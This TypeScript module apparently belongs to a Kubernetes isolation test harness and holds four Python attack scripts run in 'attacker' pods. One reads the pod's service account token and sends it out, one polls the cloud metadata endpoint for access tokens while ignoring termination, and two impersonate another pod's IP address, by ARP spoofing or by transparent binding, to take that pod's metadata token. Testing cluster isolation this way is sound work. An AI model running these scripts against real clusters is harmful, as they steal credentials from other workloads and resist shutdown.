/**
 * Programs for the pods of attackers and victims. A pod gets one as an argument of python3 and prints one JSON line for
 * each thing that it tried.
 */

/**
 * Sends bytes as they are and prints what came back. Argument: a JSON list of steps, made one after the other:
 * `name`, `to` [address, port], `send` (Latin-1), `tls` (a server name; the certificate is not verified), `body`
 * (sent with its length after `send`). `{token}` stands for the pod's own service account token, `{api}` for the API server's name.
 */
export const attempt = String.raw`
import json, os, socket, ssl, sys, time
api = os.environ.get('KUBERNETES_SERVICE_HOST', '')
def own_token():
    try: return open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
    except OSError: return ''
token = own_token()
def talk(step):
    host, port = step['to']
    wire = socket.create_connection((host, port), 1.5)
    wire.settimeout(4)
    if 'tls' in step:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        wire = context.wrap_socket(wire, server_hostname=step['tls'])
    data = step['send'].replace('{token}', token).encode('latin-1')
    if 'body' in step:
        body = step['body'].replace('{token}', token).encode()
        data += b'Content-Length: %d\r\n\r\n' % len(body) + body
    wire.sendall(data)
    heard = b''
    try:
        while True:
            part = wire.recv(65536)
            if not part: break
            heard += part
    except (TimeoutError, ConnectionResetError): pass
    return heard.decode('latin-1')
for step in json.loads(sys.argv[1].replace('{api}', api)):
    said = {'name': step['name'], 'began': time.time()}
    try: said['heard'] = talk(step)
    except (OSError, ssl.SSLError) as wrong: said['error'] = type(wrong).__name__ + ': ' + str(wrong)
    said['ended'] = time.time()
    print(json.dumps(said), flush=True)
    time.sleep(0.01)
`;

/**
 * Asks again and again over one connection as long as it lasts, and prints status and the beginning of the body when they change. Ignores
 * SIGTERM, so that it goes on while its pod is deleted. Arguments: path, seconds between two requests.
 */
export const persist = String.raw`
import http.client, json, signal, sys, time
signal.signal(signal.SIGTERM, lambda *_: None)
last, wire = None, None
while True:
    try:
        if wire is None: wire = http.client.HTTPConnection('169.254.169.254', timeout=5)
        wire.request('GET', sys.argv[1], headers={'Metadata': 'true'})
        answer = wire.getresponse()
        body = answer.read().decode('latin-1')
        said = (answer.status, 'token' if 'access_token' in body else body.strip()[:200])
    except (OSError, http.client.HTTPException) as wrong:
        said, wire = (0, type(wrong).__name__), None
    if said != last: print(json.dumps({'status': said[0], 'said': said[1]}), flush=True)
    last = said
    time.sleep(float(sys.argv[2]))
`;

/**
 * Takes another pod's address and asks as that pod for a token: tells the node by ARP that the address is here, and holds a TCP
 * conversation of its own under it, which needs raw sockets and nothing else. Arguments: the victim's address, the gateway's, the path
 * of the request, how often to try. Prints what it heard, or why nothing came of it.
 */
export const takeOver = String.raw`
import socket, struct, sys, time
victim, gateway, path = sys.argv[1], sys.argv[2], sys.argv[3]
target, port = '169.254.169.254', 80
try:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except PermissionError:
    print('refused: no raw sockets', flush=True); sys.exit(0)
wire.bind(('eth0', 0))
wire.settimeout(0.05)
mac = wire.getsockname()[4]
quad = socket.inet_aton
def checksum(data):
    if len(data) % 2: data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def gateway_mac():
    try: socket.create_connection((target, port), 0.5).close()
    except OSError: pass
    for line in open('/proc/net/arp').read().splitlines()[1:]:
        fields = line.split()
        if fields[0] == gateway: return bytes.fromhex(fields[3].replace(':', ''))
    return b'\xff' * 6
router = gateway_mac()
def claim():
    for kind, whom in ((1, b'\0' * 6), (2, router)):
        wire.send(router + mac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, kind) + mac + quad(victim) + whom + quad(gateway))
def send(sport, seq, ack, flags, data=b''):
    head = struct.pack('!HHIIBBHHH', sport, port, seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 65000, 0, 0)
    pseudo = quad(victim) + quad(target) + struct.pack('!BBH', 0, 6, len(head) + len(data))
    head = head[:16] + struct.pack('!H', checksum(pseudo + head + data)) + head[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(head) + len(data), 1, 0, 64, 6, 0) + quad(victim) + quad(target)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    wire.send(router + mac + b'\x08\x00' + ip + head + data)
def receive(sport, seconds):
    end = time.time() + seconds
    while time.time() < end:
        try: frame = wire.recv(65536)
        except OSError: continue
        if frame[12:14] != b'\x08\x00' or frame[23] != 6 or frame[26:30] != quad(target) or frame[30:34] != quad(victim): continue
        tcp = frame[14 + (frame[14] & 15) * 4:14 + struct.unpack('!H', frame[16:18])[0]]
        if struct.unpack('!H', tcp[2:4])[0] != sport: continue
        seq, ack, off, flags = struct.unpack('!IIBB', tcp[4:14])
        return seq, ack, flags, tcp[(off >> 4) * 4:]
request = ('GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n' % path).encode()
for number in range(int(sys.argv[4])):
    sport = 41000 + number
    claim()
    send(sport, 1000, 0, 2)
    claim()
    answer = receive(sport, 0.5)
    if not answer or answer[2] & 0x12 != 0x12: continue
    expected = answer[0] + 1
    send(sport, 1001, expected, 0x18, request)
    heard, until = b'', time.time() + 2
    while time.time() < until:
        claim()
        said = receive(sport, 0.2)
        if not said: continue
        seq, _, flags, data = said
        if seq == expected & 0xffffffff:
            heard += data
            expected += len(data)
        send(sport, 1001 + len(request), expected, 0x10)
        if flags & 5 or b'\r\n\r\n' in heard and len(heard.split(b'\r\n\r\n', 1)[1]) > 0 and heard.endswith((b'}', b'\n')): break
    if heard:
        print('heard: ' + heard.decode('latin-1'), flush=True); sys.exit(0)
print('refused: no answer', flush=True)
`;

/** Asks under a foreign address, to which a process with CAP_NET_RAW may bind (IP_TRANSPARENT). Arguments: address, path. */
export const transparent = String.raw`
import socket, sys
try:
    wire = socket.socket()
    wire.setsockopt(socket.IPPROTO_IP, 19, 1)
    wire.bind((sys.argv[1], 0))
    wire.settimeout(2)
    wire.connect(('169.254.169.254', 80))
    wire.sendall(('GET %s HTTP/1.1\r\nHost: x\r\nMetadata: true\r\nConnection: close\r\n\r\n' % sys.argv[2]).encode())
    print('heard: ' + wire.recv(65536).decode(), flush=True)
except OSError as wrong:
    print('refused: ' + type(wrong).__name__, flush=True)
`;
